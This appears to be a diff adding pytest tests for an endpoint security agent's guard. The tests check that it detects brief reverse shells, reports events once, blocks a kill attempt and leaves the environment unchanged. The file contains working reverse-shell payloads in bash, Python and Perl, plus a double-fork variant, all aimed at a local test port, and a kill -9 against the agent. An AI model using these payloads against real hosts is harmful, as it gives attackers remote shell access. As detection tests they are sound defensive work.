@@ -1,0 +1,155 @@
+"""The guard as part of a running agent: shells that live for 50 ms, attempts on the agent, one event for one thing."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import socket
+import subprocess
+import sys
+import time
+from collections import Counter
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from guard.harness import PROGRAM
+from live.account import Account, unprivileged
+from live.agent import LiveAgent, live_agent
+from live.campaign import workspace
+from nbsentinel_guard import abi
+
+pytestmark = pytest.mark.skipif(abi.machine() is None, reason="no table of system calls for this machine")
+HIGH = 4
+SHORT_S = 0.05
+_PYTHON = """
+import os, socket
+s = socket.create_connection(("127.0.0.1", {port}))
+for number in (0, 1, 2):
+    os.dup2(s.fileno(), number)
+os.execl("/bin/sh", "sh")
+"""
+_PERL = """
+use Socket;
+socket(S, PF_INET, SOCK_STREAM, 6);
+connect(S, sockaddr_in({port}, inet_aton("127.0.0.1")));
+open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
+exec("/bin/sh");
+"""
+_BASH = "exec 3<>/dev/tcp/127.0.0.1/{port}; sh <&3 >&3 2>&3"
+DIRECT = {
+    "bash": ["bash", "-c", _BASH],
+    "interactive": ["bash", "-c", "exec sh -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
+    "python": ["python3", "-c", _PYTHON],
+    "perl": ["perl", "-e", _PERL],
+    "double fork": ["bash", "-c", f"(setsid bash -c '{_BASH}' >/dev/null 2>&1 &); sleep 0.5"],
+}
+
+
+@pytest.fixture(scope="module")
+def account() -> Account:
+    return unprivileged()
+
+
+@pytest.fixture(scope="module")
+def folder(account: Account) -> Iterator[Path]:
+    with workspace(account) as path:
+        yield path
+
+
+@pytest.fixture(scope="module")
+def agent(account: Account, folder: Path) -> Iterator[LiveAgent]:
+    with live_agent(account, folder / "agent", '[report]\nlevel = "all"\n') as running:
+        yield running
+
+
+def guarded(account: Account, folder: Path, *command: str) -> list[str]:
+    run_dir = str(folder / "agent" / "run")
+    return [*account.prefix, sys.executable, "-I", "-S", PROGRAM, "--run-dir", run_dir, "--", *command]
+
+
+def status(account: Account, folder: Path) -> dict[str, object]:
+    command = [*account.prefix, sys.executable, "-m", "nbsentinel", "status", "--json", "--run-dir"]
+    result = subprocess.run([*command, str(folder / "agent" / "run")], capture_output=True, text=True)
+    found: dict[str, object] = json.loads(result.stdout)
+    return found
+
+
+def events(folder: Path) -> list[dict[str, object]]:
+    return [json.loads(line) for line in (folder / "agent" / "report.ndjson").read_text().splitlines()]
+
+
+@pytest.mark.parametrize("way", DIRECT)
+def test_shell_of_50_ms(account: Account, folder: Path, agent: LiveAgent, way: str) -> None:
+    """A shell that a remote peer commands once, for 50 ms, is a finding about that very process."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        port = server.getsockname()[1]
+        command = [part.replace("{port}", str(port)) for part in DIRECT[way]]
+        with subprocess.Popen(guarded(account, folder, *command), stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL):
+            server.settimeout(10)
+            connection, _ = server.accept()
+            with connection:
+                connection.sendall(b"echo pid=$$=\n")
+                connection.settimeout(5)
+                answer = b""
+                while not (told := re.search(rb"pid=(\d+)=", answer)):
+                    answer += connection.recv(1000)
+                time.sleep(SHORT_S)
+                connection.shutdown(socket.SHUT_RDWR)
+    finding = agent.wait_finding([int(told.group(1))], HIGH, 5)
+    assert finding is not None
+
+
+def test_coverage_says_that_the_guard_works(account: Account, folder: Path, agent: LiveAgent) -> None:
+    """The self-test ran through a guarded child, and `status` has its result."""
+    rows = {row["sensor"]: row for row in status(account, folder)["coverage"]}  # type: ignore[attr-defined]
+    assert rows["guard"] == {"sensor": "guard", "state": "active", "why": ""}
+
+
+def test_one_event_for_one_thing(account: Account, folder: Path, agent: LiveAgent) -> None:
+    """Two sensors see a program that lives for a second; it is reported once, and so is its connection."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        port = server.getsockname()[1]
+        code = f"import socket, time; s = socket.create_connection(('127.0.0.1', {port})); time.sleep(1.2)"
+        assert subprocess.run(guarded(account, folder, "python3", "-c", code)).returncode == 0
+    time.sleep(1.5)
+    starts = Counter(
+        (e["process"]["pid"], e["process"]["cmd_line"])  # type: ignore[index]
+        for e in events(folder)
+        if e["class_uid"] == 1007 and e["activity_id"] == 1
+    )
+    assert [pair for pair, count in starts.items() if count > 1] == []
+    connects = [
+        e
+        for e in events(folder)
+        if e["class_uid"] == 4001 and e["dst_endpoint"].get("port") == port  # type: ignore[attr-defined]
+    ]
+    assert len(connects) == 1
+
+
+def test_attempt_on_the_agent_is_refused_and_signed(account: Account, folder: Path, agent: LiveAgent) -> None:
+    """A guarded process cannot end the agent; the attempt is a signed event of high severity."""
+    pid = status(account, folder)["pid"]
+    result = subprocess.run(guarded(account, folder, "bash", "-c", f"kill -9 {pid}"), capture_output=True, text=True)
+    assert "not permitted" in result.stderr
+    assert agent.running
+    deadline = time.monotonic() + 5
+    wanted = "tried to stop or starve"
+    while not any(wanted in str(e.get("message", "")) and e["severity_id"] == HIGH for e in events(folder)):
+        assert time.monotonic() < deadline
+        time.sleep(0.1)
+
+
+def test_environment_and_descriptors_are_as_given(account: Account, folder: Path, agent: LiveAgent) -> None:
+    """The launcher leaves nothing behind: same environment, descriptors, signals, folder and pid."""
+    code = (
+        "import os, json; signals = [l for l in open('/proc/self/status') if l.startswith(('SigI', 'SigB', 'SigC'))]; "
+        "print(json.dumps([sorted(os.environ), sorted(os.listdir('/proc/self/fd')), os.getcwd(), signals]))"
+    )
+    environment = {**os.environ, "LC_ALL": "C"}
+    plain = subprocess.run(["python3", "-c", code], capture_output=True, text=True, env=environment)
+    command = guarded(account, folder, "python3", "-c", code)
+    inside = subprocess.run(command, capture_output=True, text=True, env=environment)
+    assert json.loads(inside.stdout) == json.loads(plain.stdout)
